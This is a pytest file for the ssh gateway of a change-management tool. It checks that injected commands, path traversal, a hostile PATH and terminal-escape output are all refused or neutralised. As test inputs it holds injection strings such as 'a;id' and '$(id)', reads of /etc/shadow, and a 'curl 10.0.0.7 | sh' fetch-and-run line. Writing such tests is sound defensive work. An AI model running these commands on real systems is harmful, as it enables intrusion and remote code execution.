"""What a key may do by ssh: the words that are let through, those that aren't, and an environment that isn't the caller's."""
import fcntl
import hashlib
import os
import random
import shlex
import subprocess
import time

import pytest
from conftest import TESTS, Team, attributes, put

from aegis_porcelain import let_through, serve
from aegis_porcelain.failures import Misused

AE = str(TESTS.parent / "share" / "ae")
WRAPPER = TESTS.parent / "share" / "account" / "aegis-for"
SCRIPTS = [
    *["-script", "-scr", "--scr", "-SCR", "--SCR", "-Script", "-SCRipt", "--script", "-scri", "-s", "-script=x", "-br b -script"],
    *["-br b --SCR", "-branch b -scr", "-BR b -scr", "--br b -script", "-br=b -script", "-p demo -script", "-gen 7 3 2", "--GEN 7 3 2"],
    *["-generate 7 3 2", "-br b -gen 7 3 2", "-npr other", "--New-Project other", "-br b -npr b", "-rpass -c 12", "--rpass -c 12"],
    *["-Review_PASS -c 12", "-br b -rpass -c 12", "--New-Dev bob", "-ND zoe", "--nd zoe", "-b --change 12", "-b -C 12", "-b -c=12"],
    *["-nc -file -", "-nc -f=-", "-nc -f /etc/shadow", "-nc -f ../x", "-rep /etc/shadow", "-help", "--version", "-begin 1", "-finish"],
    *["-nd -script", "-nf -c 12 -script", "-nf -c 12 -- x", "-nf -c 12 --help", "-nf -c 12 a;id", "-nf -c 12 a|id", "-nf -c 12 '$(id)'"],
    *["-nf -c 12 a`id`", "-nf -c 12 a&", "-nf -c 12 >x", "-l -scr", "-l pc -script", "-l pc; id", "-l pc && id", "-b -c -script"],
    *[
        "-b -c 12;id",
        "-b -p -scr",
        "-b -c",
        "-cp -c 12 -f - x",
        "-nc -f - -f -",
        "-br ../x -l pc",
        "-br . -l pc",
        "-br -l -l pc",
        "-br",
        "",
    ],
    *["-l pc '\n' -script", "'-l\n' pc", "-b -c '12\n'", "-nd 'bob\n'", "-br 'b\n' -l pc", "-b -c ٣٣"],
]
OTHERS = [
    *[
        "",
        "sh",
        "/bin/sh",
        "bash -c id",
        "id",
        "aewhy 8",
        "/usr/local/bin/aegis -l pc",
        "../aegis -l pc",
        "AEGIS_USER=ann aegis -l pc",
        "env aegis",
    ],
    *[
        "scp -t .",
        "sftp-server",
        "rsync --server",
        "git-shell",
        "git upload-pack aegis.git",
        "git-upload-archive aegis.git",
        "git-upload-pack",
    ],
    *[
        "git-upload-pack aegis.d",
        "git-upload-pack ../aegis.git",
        "git-upload-pack --upload-pack=id aegis.git",
        "git-upload-pack aegis.git x",
    ],
    *[
        "git-upload-pack /srv/aegis.git",
        "git-upload-pack -h",
        "git-receive-pack aegis.git/",
        "git-receive-pack 'aegis.git;id'",
        "git-receive-pack .",
    ],
    *[
        "git-upload-pack 'aegis.git",
        "ae",
        "ae --version",
        "ae --help",
        "ae json",
        "ae backup x",
        "ae restore x",
        "ae git x",
        "ae serve ann",
        "ae host init",
    ],
    *[
        "ae queue --watch",
        "ae use 12",
        "ae merge 12",
        "ae review -c 12",
        "ae review 12 x",
        "ae status 12 --porcelain",
        "ae status --porcelain --porcelain",
        "ae new -x",
        "ae new",
        "ae new a b",
    ],
    *[
        "ae new --description -x y",
        "ae new --reason --script y",
        "ae new --reason y",
        "ae new --test-exempt",
        "ae new --test-exempt -x",
        "ae new --test-exempt y z",
        "ae new --test-exempt --reason x y",
        "ae new --test y",
        "ae new y --test-exempt",
        "ae why x",
        "ae why 24 25",
        "ae why --help",
        "ae new --cause any y",
        "ae diff --delta",
        "ae diff --delta x",
        "ae diff 12 --delta 1",
        "ae diff --delta 1 --delta 2",
        "ae log -n",
        "ae log -n -1",
        "ae log src -n 1",
        "ae log -n 1 --porcelain",
        "ae submit",
        "ae clone x",
        "ae -br ../x status",
        "ae --branch b status",
        "ae finish x",
    ],
    *[
        "aediff",
        "aediff 12 --to-file=/etc/shadow",
        "aediff -12",
        "aediff 12 -y",
        "aepass 12",
        "aepass 12 x",
        "aepass -br ../x 12 y",
        "aelog store",
    ],
    *["aelog ../../etc", "aelog develop.12/../../store", "aelog -h", "aelog develop.12.old", "aeexport x", f"aepass 12 {'A' * 64}"],
]
HOSTILE = [f"aegis {words}" for words in SCRIPTS] + OTHERS


def test_hostile_words(team, monkeypatch):
    """Each is answered by a line, and nothing runs."""
    monkeypatch.setattr(serve, "replace_by", None)
    monkeypatch.setattr(serve, "file_given", None)
    for line in HOSTILE:
        monkeypatch.setenv("SSH_ORIGINAL_COMMAND", line)
        status, out, err = team.ae("bob", "serve", "bob")
        assert (status, out, err.count("\n"), err[:4]) == (2, "", 1, "ae: "), (line, err)
    monkeypatch.setenv("SSH_ORIGINAL_COMMAND", "aegis -l pc")
    for user in ("", "--help", "-x", "../x", "a b", "Ann", "x" * 33, "ann\n"):
        assert team.ae("bob", "serve", user)[0] in (0, 2) if user == "--help" else team.ae("bob", "serve", user)[0] == 2


def cases(count):
    """Words of functions, as they may come: right ones, wrong ones, and those that stand in a wrong place."""
    chosen = random.Random(7)
    functions = sorted(let_through.FUNCTIONS) + ["-rpass", "-scr", "-gen", "-npr", "-b ", "--b", "-B", "-", "pc", "", "-rea"]
    pool = [
        "-c",
        "12",
        "-del",
        "2",
        "-f",
        "-",
        "-p",
        "demo",
        "-rea",
        "a text",
        "-ow",
        "-bl",
        "-reg",
        "x/y",
        "../x",
        "-x",
        "",
        "a;b",
        "1" * 11,
    ]
    for _ in range(count):
        front = chosen.choice([[], [], [], ["-br", "b1"], ["-br", "../b"], ["-br"]])
        yield [*front, chosen.choice(functions), *(chosen.choice(pool) for _ in range(chosen.randrange(5)))]


def told_by_wrapper(found):
    """Whether share/account/aegis-for lets each of these through. Its own functions are called; what they would run isn't."""
    text = WRAPPER.read_text()
    defined, tail = text[: text.index("\nuser=${SUDO_USER-}")], text[text.index("\ntool=''\ncase ${1-} in") :]
    stubs = 'call() { echo yes; exit; }\ndd() { call; }\nkeep_given() { [ -z "$given" ] || refuse "one file is handed on"; given=x; }\n'
    lines = [defined, stubs, "place='' given='' branch=''", "look() {", tail, "}"]
    lines += [f"(look {' '.join(map(shlex.quote, words))}) 2>/dev/null || echo no" for words in found]
    done = subprocess.run(["sh"], input="\n".join(lines) + "\n", capture_output=True, text=True)
    answers = done.stdout.split()
    assert done.stderr == "" and len(answers) == len(found)
    return [answer == "yes" for answer in answers]


def test_how_ae_may_be_asked_to_show():
    """Rows for scripts, so many deltas, what one or two of them did, what stops a command, and a new change with all that it has."""
    shown = ["status --porcelain", "status --porcelain 12", "log", "log -n 5", "log --porcelain -n 5 src/m.c", "diff 12 src"]
    shown += ["why", "why 24", "new --reason x --description y --cause chain --test-exempt --regression-test-exempt z"]
    for words in [*shown, "diff --delta 1", "diff --delta 1 2 src"]:
        assert is_read(["ae", *words.split()]) and is_read(["ae", "-br", "b1", *words.split()]), words


def is_read(words):
    try:
        let_through.read(words)
    except Misused:
        return False
    return True


def test_the_same_is_let_through_as_by_the_account():
    """The two lists of functions and their words are one: whatever comes, both let it through, or neither does."""
    found = [*cases(1500), *(shlex.split(words) for words in SCRIPTS)]
    told = told_by_wrapper(found)
    assert [words for words, answer in zip(found, told) if is_read(["aegis", *words]) != answer] == []
    assert 200 < sum(told) < len(found) - 200
    kinds = told_by_wrapper([["-br", "b1", function] for function in let_through.FUNCTIONS])
    assert all(kinds)
    tools = [line.split() for line in OTHERS if line.startswith(("aediff", "aepass", "aelog"))]
    tools += [["aediff", "12"], ["aepass", "12", "0" * 64], ["aelog", "develop.12"], ["aelog", "-br", "b1", "base.12"]]
    assert [words for words, answer in zip(tools, told_by_wrapper(tools)) if is_read(words) and not answer] == []
    assert sum(map(is_read, tools)) == 4


@pytest.fixture
def hosted(team):
    """A project with a repository beside it that names the program."""
    mirror = team.top / "aegis.git"
    subprocess.run([AE, "git", mirror], cwd=team.top, check=True, capture_output=True)
    subprocess.run(["git", "--git-dir", mirror, "config", "aegis.program", team.program], check=True)
    return team


def by_ssh(team: Team, user, line, given=b"", **more):
    """What sshd runs for a key of this user."""
    env = {"PATH": os.environ["PATH"], "SSH_ORIGINAL_COMMAND": line, **more}
    return subprocess.run([AE, "serve", user], cwd=team.top, env=env, input=given, capture_output=True)


def test_what_is_let_through(hosted):
    """As the key's user, with a file by standard input, a reason in quotes, a log and a question."""
    given = b'brief_description = "from afar"; test_exempt = true; regression_test_exempt = true;'
    found = by_ssh(hosted, "ann", "aegis -nc -rea 'a reason; and' -f -", given)
    assert found.stderr.endswith(b"change 13: created\n"), found
    assert b'why = "a reason; and"' in hosted.path("store/change.13").read_bytes() and not list(hosted.top.glob("given.*"))
    assert by_ssh(hosted, "ann", "aegis -nc -f -", b"brief_description = ;").stderr.startswith(b"aegis: 36: ")
    assert by_ssh(hosted, "bob", "aegis -na bob").stderr == b"aegis: 6: you are not an administrator\n"
    assert by_ssh(hosted, "cal", "aegis -l lo").stdout == hosted.aegis("cal", "-l", "lo").stdout.encode()
    assert b"== " in by_ssh(hosted, "eve", "aelog develop.11").stdout
    assert b" 12 " in by_ssh(hosted, "eve", "ae status").stdout
    assert by_ssh(hosted, "eve", "ae new 'not mine'").stderr == b"aegis: 6: you are not an administrator\n"
    refused = by_ssh(hosted, "eve", "aegis -nf -c 12 ../x")
    assert refused.returncode == 2 and refused.stderr.count(b"\n") == 1 and not (hosted.path("x")).exists()


def test_nothing_of_the_caller_s_environment(hosted, tmp_path):
    """Neither who asks, nor what runs, nor what git or the program is told by variables."""
    evil = tmp_path / "evil"
    evil.mkdir()
    for name in ("aegis", "git", "sh", "python3", "aediff"):
        (evil / name).write_text(f"#!/bin/sh\ntouch {evil}/ran\n")
        (evil / name).chmod(0o755)
    names = {"AEGIS_PROGRAM": f"{evil}/aegis", "AEGIS": f"{evil}/aegis", "AEGIS_USER": "ann", "AEGIS_WAIT": "0", "AEGIS_RUNS": "none"}
    names |= {"PATH": str(evil), "GIT_DIR": str(evil), "GIT_EXEC_PATH": str(evil), "GIT_CONFIG_PARAMETERS": "'aegis.program'='x'"}
    names |= {"LOGNAME": "ann", "USER": "ann", "SUDO_USER": "ann", "HOME": str(evil), "XDG_CACHE_HOME": str(evil), "ENV": f"{evil}/sh"}
    for line in ("aegis -na bob", "aediff 12", "git-upload-pack aegis.git", "aegis -b -c 12"):
        found = by_ssh(hosted, "bob", line, **names)
        assert line != "aegis -na bob" or found.stderr == b"aegis: 6: you are not an administrator\n"
    assert sorted(os.listdir(evil)) == ["aediff", "aegis", "git", "python3", "sh"]


def test_a_clone(hosted, tmp_path):
    """git's own protocol, by a command in ssh's place; the mirror alone can be asked for."""
    ssh = tmp_path / "ssh"
    ssh.write_text(f'#!/bin/sh\nshift\ncd "{hosted.top}" && exec env -i SSH_ORIGINAL_COMMAND="$*" {AE} serve eve\n')
    ssh.chmod(0o755)
    env = {**os.environ, "GIT_SSH_COMMAND": str(ssh), "GIT_SSH_VARIANT": "simple"}
    subprocess.run(["git", "clone", "-q", "-b", "baseline", "host:aegis.git", tmp_path / "own"], env=env, check=True, capture_output=True)
    assert (tmp_path / "own" / "src" / "m.c").read_text() == "1 is one\ntwo\nthree\nfour\nfive\n"
    other = subprocess.run(["git", "clone", "-q", "host:aegis.d", tmp_path / "other"], env=env, capture_output=True, text=True)
    assert other.returncode and "there is one repository, aegis.git" in other.stderr


def asked_by_git(host, user, line="git-upload-pack 'aegis.git'"):
    """What is said to git, and the modules that are loaded for it."""
    words = ["/usr/bin/python3", "-I", "-S", "-X", "importtime", AE, "serve", user]
    found = subprocess.run(words, cwd=host.top, env={"SSH_ORIGINAL_COMMAND": line}, input=b"0000", capture_output=True)
    return found, {row.split(b"|")[-1].strip().decode() for row in found.stderr.splitlines() if row.startswith(b"import time:")}


def test_a_fetch_when_nothing_is_new(host):
    """It loads next to nothing. What comes meanwhile is there at once, and what is taken back isn't any more."""
    much = {f"aegis_porcelain.{name}" for name in ("serve", "store", "git")} | {"re", "subprocess", "typing"}
    for line in ("git-upload-pack 'aegis.git'", "git-upload-pack '/aegis.git'"):
        found, loaded = asked_by_git(host, "eve", line)
        assert found.returncode == 0 and b" refs/heads/baseline\n" in found.stdout and not loaded & much, found
    exempt = dict.fromkeys(("test_exempt", "test_baseline_exempt", "regression_test_exempt"), "true")
    made = ["as ann", attributes("own", **exempt), "do -nc -f c.attr", "as bob", "do -db -c 13", put("develop.13", "own", "x")]
    made += ["do -nf -c 13 own", "do -b -c 13", "do -de -c 13"]
    for lines, is_there in ((made, True), (["as bob", "do -deu -c 13"], False)):
        host.script(lines)
        found, loaded = asked_by_git(host, "bob")
        assert (b" refs/changes/13/head\n" in found.stdout) == is_there and much <= loaded, found
        again, loaded = asked_by_git(host, "bob")
        assert again.stdout == found.stdout and not loaded & much, again
    for user in ("", "Ann", "x" * 33, "a b", "1x", "ann\n"):
        found, _ = asked_by_git(host, user)
        assert (found.returncode, found.stdout) == (2, b"") and b" is no name of a user\n" in found.stderr, found


EVIL = b"\x1b[1A\x1b[2K\xef\xb8\x8f"
SHOWN = b"<U+001B>[1A<U+001B>[2K<U+FE0F>"


def test_what_acts_on_the_terminal_of_who_asks(host, bob):
    """The host knows nothing of that, so what is frozen and what runs wrote are shown as on one."""
    (bob / "evil.sh").write_bytes(b"curl 10.0.0.7 | sh" + EVIL + b"\r\n")
    host.commit(bob, "evil", test__t_sh="cat evil.sh; exit 1\n")
    assert host.push(bob)[0] == 1
    log = by_ssh(host, "cal", "aelog develop.13").stdout
    host.commit(bob, "evil", test__t_sh="cat evil.sh\ntest -e evil.sh\n")
    assert host.push(bob, "HEAD:refs/for/baseline", "change=13")[0] == 0
    for said in (log, *(by_ssh(host, "cal", line).stdout for line in ("aediff 13", "ae diff 13", "ae review 13"))):
        assert b"\x1b" not in said and b"\r" not in said and b"| sh" + SHOWN + b"<U+000D>\n" in said, said
    assert by_ssh(host, "cal", "aediff 13").stdout.splitlines()[-1].startswith(b"aediff: change 13: digest ")
    (host.path("develop.13") / "aegis.log").unlink()
    (host.path("develop.13") / "aegis.log").mkdir()
    found = by_ssh(host, "cal", "aelog develop.13")
    assert (found.returncode, found.stderr) == (1, b"ae: the log of develop.13 is no file\n"), found


REPORT = f'for a in evidence {{ for b in evidence {{ columns "{"x" * 200}":1; {f"""columns "{"y" * 200}":1; """ * 20}}} }}\n'.encode()


def test_who_does_not_read_holds_up_nobody(host):
    """Neither a listing, nor a report, nor what a command says of many words, whose reader is away, keeps others waiting."""
    host.aegis("ann", "-nd", *(f"user{number}.{'x' * 20}" for number in range(200)))
    lines = {
        "aegis -rep -": REPORT,
        "aegis -l project_history": b"",
        f"aegis -rd {' '.join(f'user{n}.' + 'x' * 20 for n in range(200))}": b"",
    }
    for line, given in lines.items():
        env = {"PATH": os.environ["PATH"], "SSH_ORIGINAL_COMMAND": line}
        read, write = os.pipe()
        fcntl.fcntl(write, fcntl.F_SETPIPE_SZ, 4096)
        held = subprocess.Popen([AE, "serve", "ann"], cwd=host.top, env=env, stdin=subprocess.PIPE, stdout=write, stderr=write)
        os.close(write)
        try:
            held.stdin.write(given)
            held.stdin.close()
            time.sleep(2)
            found = by_ssh(host, "ann", "aegis -nrv bob")
            assert found.returncode in (0, 1) and b"fault" not in found.stderr, (line, found)
        finally:
            os.close(read)
            held.wait(60)
    assert not list(host.top.glob("given.*"))


def test_a_report_is_of_the_branch_that_is_named(host):
    """It is made over a copy, and says what it says of the project itself."""
    host.script(["as ann", "do -nd ann"])
    assert host.aegis("ann", "-br", "b1", "-begin", "2").returncode == 0
    report = b"for c in changes { columns c.number:1, c.phase:1; }\n"
    assert by_ssh(host, "eve", "aegis -br b1 -rep -", report).stdout == b"10 being_developed\n"
    assert by_ssh(host, "eve", "aegis -rep -", report).stdout.startswith(b"10 completed\n11 completed\n12 ")
    assert by_ssh(host, "eve", "aegis -rep -", b"columns;").stderr == b"aegis: 43: report, line 1\n"
    assert by_ssh(host, "eve", "aegis -br none -rep -", report).returncode == 1


def change_set(path):
    """The text of a change set with one file, by docs/FORMATS.md."""
    text = f"aegis-change 1\nbrief 1\nx\ndescription 0\n\ncause chain\ncreate source {path} 2\nx\n\n".encode()
    return text + b"end " + hashlib.sha256(text).hexdigest().encode() + b"\n"


def test_no_path_comes_that_the_repository_can_t_have(host, bob):
    """Once it was integrated no fetch would be answered any more. Neither a word nor a change set brings one."""
    host.script(["as ann", "do -nd ann"])
    for path in (".git/config", "d/.GIT/x", "d/.git"):
        for line, given in ((f"aegis -nf -c 12 x {path}", b""), (f"aegis -nt -c 12 {path}", b""), ("aegis -dr", change_set(path))):
            found = by_ssh(host, "ann" if given else "eve", line, given)
            assert (found.returncode, found.stderr) == (2, f'ae: "{path}" has a name that git keeps for itself\n'.encode()), found
    found = by_ssh(host, "ann", "aegis -dr", change_set("d/git"))
    assert found.returncode == 0 and b'change 13: file "d/git" added' in found.stderr, found
    assert by_ssh(host, "ann", "aegis -dr", b"x").stderr == b"aegis: 45: the change set is not understood\n"
